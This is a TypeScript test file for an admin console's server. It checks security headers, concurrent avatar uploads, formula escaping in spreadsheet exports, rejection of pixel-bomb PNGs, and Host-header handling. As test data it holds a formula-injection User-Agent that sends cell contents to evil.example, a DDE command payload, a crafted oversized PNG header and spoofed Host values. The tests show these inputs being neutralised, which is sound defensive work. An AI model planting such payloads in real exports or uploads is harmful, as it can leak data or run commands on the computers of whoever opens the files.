/**
 * Issue 22, items 9, 10, 11, 14 and 15: what the server says about its answers (security
 * headers, caching), and what it does with files and exports under attack:
 * - every answer carries a Content-Security-Policy the console runs under (the browser
 *   tests fail on any violation: e2e/fixtures.ts), framing by its own origin only,
 *   nosniff and same-origin referrers; API answers are never stored by a cache, while
 *   static files and pictures keep their long caching;
 * - parallel avatar uploads leave exactly the last file on disk;
 * - export cells that a spreadsheet would read as a formula stay text;
 * - a tiny image declaring a huge canvas is refused;
 * - picture URLs never echo the request's Host.
 */
import fs from 'node:fs';
import path from 'node:path';
import type { LightMyRequestResponse } from 'fastify';
import ExcelJS from 'exceljs';
import { call, captcha, createTestApp, destroyTestApp, encrypt, expectError, login, multipartBody, pngImage, tempDir, upload, type TestApp } from '../testing/harness';
import { roleId } from '../testing/system-fixtures';

/** The directives of a Content-Security-Policy header, by name. */
function directives(header: string | number | string[] | undefined): Map<string, string[]> {
  expect(typeof header).toBe('string');
  const out = new Map<string, string[]>();
  for (const part of String(header).split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) out.set(name, sources);
  }
  return out;
}

describe('security headers (item 9)', () => {
  let t: TestApp;
  let admin: string;
  beforeEach(async () => {
    const dir = tempDir();
    const dist = path.join(dir, 'dist');
    fs.mkdirSync(path.join(dist, 'static', 'js'), { recursive: true });
    fs.writeFileSync(path.join(dist, 'index.html'), '<!doctype html><div id="root"></div><script src="/static/js/main.3f2a9c1b.js"></script>');
    fs.writeFileSync(path.join(dist, 'static', 'js', 'main.3f2a9c1b.js'), 'void 0;');
    t = await createTestApp({}, dir);
    admin = await login(t.app);
  });
  afterEach(() => destroyTestApp(t));

  const commonHeaders = (res: LightMyRequestResponse) => {
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['referrer-policy']).toBe('same-origin');
    expect(res.headers['x-frame-options']).toBe('SAMEORIGIN');
    const csp = directives(res.headers['content-security-policy']);
    expect(csp.get('frame-ancestors')).toEqual(["'self'"]);
  };

  it('the console page runs under a strict policy: scripts from its own origin only, framed only by itself', async () => {
    const res = await call(t.app, 'GET', '/system/user', { headers: { accept: 'text/html' } });
    expect(res.statusCode).toBe(200);
    commonHeaders(res);
    const csp = directives(res.headers['content-security-policy']);
    // No inline script and no eval: an injected <script> or onerror= never runs.
    expect(csp.get('script-src')).toEqual(["'self'"]);
    expect(csp.get('default-src')).toEqual(["'self'"]);
    expect(csp.get('object-src')).toEqual(["'none'"]);
    expect(csp.get('base-uri')).toEqual(["'self'"]);
    expect(csp.get('connect-src')).toEqual(["'self'"]);
    // The picture picker frames the console itself; nothing else is framed.
    expect(csp.get('frame-src')).toEqual(["'self'"]);
    // The captcha is a data: URL, avatar previews and downloads are blob: URLs.
    expect(csp.get('img-src')).toEqual(expect.arrayContaining(["'self'", 'data:', 'blob:']));
    expect(res.headers['cache-control']).toBe('no-cache');
  });

  it('API answers, signed-in or refused, are never stored by a browser or proxy cache', async () => {
    for (const res of [
      await call(t.app, 'GET', '/api/menus/build', { token: admin }),
      await call(t.app, 'GET', '/auth/info', { token: admin }),
      await call(t.app, 'GET', '/api/users?page=0&size=10', { token: admin }),
      await call(t.app, 'GET', '/api/dictDetail?dictName=user_status', { token: admin }),
      await call(t.app, 'GET', '/api/menus/build'),
      await call(t.app, 'GET', '/api/nothing-here', { token: admin }),
    ]) {
      expect(res.headers['cache-control']).toBe('no-store');
      commonHeaders(res);
    }
  });

  it('API answers carry the API set: a policy that loads nothing, and none of the headers that only govern documents', async () => {
    const page = await call(t.app, 'GET', '/system/user', { headers: { accept: 'text/html' } });
    const documentOnly = ['cross-origin-opener-policy', 'origin-agent-cluster', 'x-dns-prefetch-control', 'x-download-options', 'x-permitted-cross-domain-policies', 'x-xss-protection'];
    // The page carries them (helmet's set)...
    for (const name of documentOnly) expect(page.headers[name]).toBeDefined();
    for (const res of [
      await call(t.app, 'GET', '/api/menus/build', { token: admin }),
      await call(t.app, 'GET', '/auth/code'),
      await call(t.app, 'GET', '/api/users?page=0&size=10'),
      await call(t.app, 'GET', '/api/nothing-here', { token: admin }),
    ]) {
      // ...an API answer does not, and as a document it would load and run nothing.
      for (const name of documentOnly) expect(res.headers[name]).toBeUndefined();
      const csp = directives(res.headers['content-security-policy']);
      expect(csp.get('default-src')).toEqual(["'none'"]);
      expect(res.headers['cross-origin-resource-policy']).toBe(page.headers['cross-origin-resource-policy']);
      commonHeaders(res);
    }
  });

  it('keeps the long caching of static files and stored pictures, with the same headers', async () => {
    const asset = await call(t.app, 'GET', '/static/js/main.3f2a9c1b.js');
    expect(asset.statusCode).toBe(200);
    expect(asset.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    commonHeaders(asset);
    const config = await call(t.app, 'GET', '/config.json');
    expect(config.headers['cache-control']).toBe('no-cache');
    commonHeaders(config);
    const uploaded = await upload(t.app, '/api/users/updateAvatar', admin, 'avatar', 'me.png', pngImage(2, 2));
    expect(uploaded.headers['cache-control']).toBe('no-store');
    const avatar = await call(t.app, 'GET', `/avatar/${uploaded.json<{ avatar: string }>().avatar}`);
    expect(avatar.statusCode).toBe(200);
    expect(avatar.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    commonHeaders(avatar);
  });

  it('leaves HSTS to the TLS terminator and lets the XState inspector window talk back', async () => {
    const res = await call(t.app, 'GET', '/', { headers: { accept: 'text/html' } });
    // A proxied answer's HSTS would bind the whole host (and its subdomains) to HTTPS.
    expect(res.headers['strict-transport-security']).toBeUndefined();
    // `same-origin` would cut the inspector popup (stately.ai) off from window.opener.
    expect(res.headers['cross-origin-opener-policy']).toBe('same-origin-allow-popups');
  });
});

describe('parallel avatar uploads (item 10)', () => {
  let t: TestApp;
  beforeEach(async () => {
    t = await createTestApp();
  });
  afterEach(() => destroyTestApp(t));

  it('20 at once leave one file on disk, the one the user refers to', async () => {
    const token = await login(t.app, 'editor');
    const answers = await Promise.all(
      Array.from({ length: 20 }, (_, i) => upload(t.app, '/api/users/updateAvatar', token, 'avatar', `me-${i}.png`, pngImage(3 + i, 3))),
    );
    expect(answers.map((a) => a.statusCode)).toEqual(Array.from({ length: 20 }, () => 200));
    const avatar = t.app.ctx.users.findForLogin('editor')!.avatar;
    expect(answers.map((a) => a.json<{ avatar: string }>().avatar)).toContain(avatar);
    expect(fs.readdirSync(path.join(t.app.ctx.files.root, 'avatar'))).toEqual([avatar]);
    expect((await call(t.app, 'GET', `/avatar/${avatar}`)).statusCode).toBe(200);
  });

  it('a replaced avatar goes, another user\'s stays', async () => {
    const editor = await login(t.app, 'editor');
    const admin = await login(t.app, 'admin');
    const mine = (await upload(t.app, '/api/users/updateAvatar', admin, 'avatar', 'a.png', pngImage(4, 4))).json<{ avatar: string }>().avatar;
    await Promise.all([
      upload(t.app, '/api/users/updateAvatar', editor, 'avatar', 'b.png', pngImage(5, 5)),
      upload(t.app, '/api/users/updateAvatar', editor, 'avatar', 'c.png', pngImage(6, 6)),
    ]);
    const editors = t.app.ctx.users.findForLogin('editor')!.avatar;
    expect(fs.readdirSync(path.join(t.app.ctx.files.root, 'avatar')).sort()).toEqual([mine, editors].sort());
  });
});

describe('exports keep formula-looking text as text (item 11)', () => {
  let t: TestApp;
  let admin: string;
  /** A User-Agent bowser does not know: shown (and exported) as it is. */
  const HOSTILE_UA = '=HYPERLINK("https://evil.example/?leak="&A1,"点我")';
  beforeEach(async () => {
    t = await createTestApp();
    admin = await login(t.app);
  });
  afterEach(() => destroyTestApp(t));

  /** Every cell of the first sheet: its text, and whether exceljs reads it as a formula. */
  async function cells(res: LightMyRequestResponse): Promise<{ texts: string[]; formulas: number }> {
    expect(res.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const texts: string[] = [];
    let formulas = 0;
    workbook.worksheets[0]!.eachRow((row) =>
      row.eachCell((cell) => {
        texts.push(cell.text);
        if (cell.type === ExcelJS.ValueType.Formula) formulas += 1;
      }),
    );
    return { texts, formulas };
  }

  it('prefixes = + - @ tab and carriage return with an apostrophe in the system exports', async () => {
    const { db } = t.app.ctx;
    const role = roleId(t.app, 'common');
    db.prepare("UPDATE roles SET name = '=1+2', description = '@SUM(A1:A9)' WHERE id = ?").run(role);
    db.prepare("UPDATE depts SET name = '+cmd|'' /C calc''!A0' WHERE name = '前端组'").run();
    db.prepare("UPDATE depts SET name = char(9) || '=1' WHERE name = '后端组'").run();
    db.prepare("UPDATE jobs SET name = '-2+3' WHERE id = (SELECT MIN(id) FROM jobs)").run();
    db.prepare("UPDATE users SET email = char(13) || '=2', phone = '-13900000000' WHERE username = 'editor'").run();

    const roles = await cells(await call(t.app, 'GET', '/api/roles/download', { token: admin }));
    expect(roles.texts).toEqual(expect.arrayContaining(["'=1+2", "'@SUM(A1:A9)", '超级管理员']));
    const depts = await cells(await call(t.app, 'GET', '/api/dept/download', { token: admin }));
    expect(depts.texts).toEqual(expect.arrayContaining(["'+cmd|' /C calc'!A0", "'\t=1", '研发部']));
    const jobs = await cells(await call(t.app, 'GET', '/api/job/download', { token: admin }));
    expect(jobs.texts).toContain("'-2+3");
    const users = await cells(await call(t.app, 'GET', '/api/users/download', { token: admin }));
    expect(users.texts).toEqual(expect.arrayContaining(["'-13900000000", 'editor']));
    // XML reads a stored carriage return back as a line feed; the apostrophe is what counts.
    expect(users.texts.filter((text) => /^'[\r\n]=2$/.test(text))).toHaveLength(1);
    for (const sheet of [roles, depts, jobs, users]) expect(sheet.formulas).toBe(0);
  });

  it('prefixes a hostile User-Agent in 操作日志 and 在线用户', async () => {
    const { uuid, answer } = await captcha(t.app);
    const signIn = await t.app.inject({
      method: 'POST',
      url: '/auth/login',
      headers: { 'user-agent': HOSTILE_UA },
      payload: { username: 'editor', password: encrypt(t.app, '123456'), code: answer, uuid },
    });
    expect(signIn.statusCode).toBe(200);

    const logs = await cells(await call(t.app, 'GET', '/api/logs/download', { token: admin }));
    expect(logs.texts).toContain(`'${HOSTILE_UA}`);
    expect(logs.texts).not.toContain(HOSTILE_UA);
    const online = await cells(await call(t.app, 'GET', '/auth/online/download', { token: admin }));
    expect(online.texts).toContain(`'${HOSTILE_UA}`);
    expect(online.texts).not.toContain(HOSTILE_UA);
    // Numbers stay numbers (the duration column), dates and ordinary text unchanged.
    expect(logs.texts).toContain('用户登录');
    for (const sheet of [logs, online]) expect(sheet.formulas).toBe(0);
  });
});

describe('pictures that declare a huge canvas (item 14)', () => {
  let t: TestApp;
  let admin: string;
  beforeEach(async () => {
    t = await createTestApp();
    admin = await login(t.app);
  });
  afterEach(() => destroyTestApp(t));

  /** A real 1x1 PNG whose header claims `width` x `height` (decoders believe the header). */
  function pngClaiming(width: number, height: number): Buffer {
    const png = Buffer.from(pngImage(1, 1));
    png.writeUInt32BE(width, 16);
    png.writeUInt32BE(height, 20);
    return png;
  }
  const stored = () => fs.readdirSync(path.join(t.app.ctx.files.root, 'pictures')).length + fs.readdirSync(path.join(t.app.ctx.files.root, 'avatar')).length;

  it('refuses a 100-byte PNG declaring 20000 x 20000 on both upload routes, and stores nothing', async () => {
    const bomb = pngClaiming(20000, 20000);
    expect(bomb.length).toBeLessThan(100);
    const before = stored();
    expectError(await upload(t.app, '/api/pictures', admin, 'file', 'bomb.png', bomb), 400, '图片尺寸过大（20000×20000 像素），请上传不超过 5000 万像素的图片');
    expectError(await upload(t.app, '/api/users/updateAvatar', admin, 'avatar', 'bomb.png', bomb), 400, '头像尺寸过大（20000×20000 像素），请上传不超过 1600 万像素的图片');
    expect(stored()).toBe(before);
  });

  it('caps pictures at 50 million pixels and avatars at 16 million', async () => {
    expect((await upload(t.app, '/api/pictures', admin, 'file', 'wide.png', pngClaiming(10000, 5000))).statusCode).toBe(201);
    expectError(await upload(t.app, '/api/pictures', admin, 'file', 'wider.png', pngClaiming(10001, 5000)), 400, /^图片尺寸过大（10001×5000 像素）/);
    // A phone photo (12 MP) is a fine avatar; a 48 MP one is not.
    expect((await upload(t.app, '/api/users/updateAvatar', admin, 'avatar', 'phone.png', pngClaiming(4032, 3024))).statusCode).toBe(200);
    expect((await upload(t.app, '/api/users/updateAvatar', admin, 'avatar', 'square.png', pngClaiming(4000, 4000))).statusCode).toBe(200);
    expectError(await upload(t.app, '/api/users/updateAvatar', admin, 'avatar', 'big.png', pngClaiming(8000, 6000)), 400, /^头像尺寸过大（8000×6000 像素）/);
    expectError(await upload(t.app, '/api/users/updateAvatar', admin, 'avatar', 'big.png', pngClaiming(4001, 4000)), 400, /^头像尺寸过大/);
  });
});

describe('picture URLs and the Host header (item 15)', () => {
  let t: TestApp | undefined;
  afterEach(async () => {
    await destroyTestApp(t);
    t = undefined;
  });

  async function uploadAs(headers: Record<string, string>): Promise<{ created: string; listed: string }> {
    const token = await login(t!.app);
    const { payload, headers: multipart } = multipartBody('file', 'a.png', 'image/png', pngImage(4, 4));
    const res = await t!.app.inject({ method: 'POST', url: '/api/pictures', payload, headers: { ...multipart, ...headers, authorization: token } });
    expect(res.statusCode).toBe(201);
    const list = await call(t!.app, 'GET', '/api/pictures?page=0&size=1', { token, headers });
    return { created: res.json<{ url: string }>().url, listed: list.json<{ content: { url: string }[] }>().content[0]!.url };
  }

  it('never echoes the request\'s Host, nor a proxy\'s X-Forwarded-Host: the URL is relative to the server', async () => {
    t = await createTestApp({ trustedProxies: ['127.0.0.1'] });
    const { created, listed } = await uploadAs({ host: 'evil.example', 'x-forwarded-host': 'phish.example', 'x-forwarded-proto': 'https' });
    expect(created).toMatch(/^\/file\/pictures\/[0-9a-f]{32}\.png$/);
    expect(listed).toBe(created);
    expect((await call(t.app, 'GET', created)).statusCode).toBe(200);
  });

  it('uses PUBLIC_BASE_URL when one is configured, path prefix included', async () => {
    t = await createTestApp({ publicBaseUrl: 'https://shop.example.com/admin' });
    const { created, listed } = await uploadAs({ host: 'evil.example' });
    expect(created).toMatch(/^https:\/\/shop\.example\.com\/admin\/file\/pictures\/[0-9a-f]{32}\.png$/);
    expect(listed).toBe(created);
  });
});
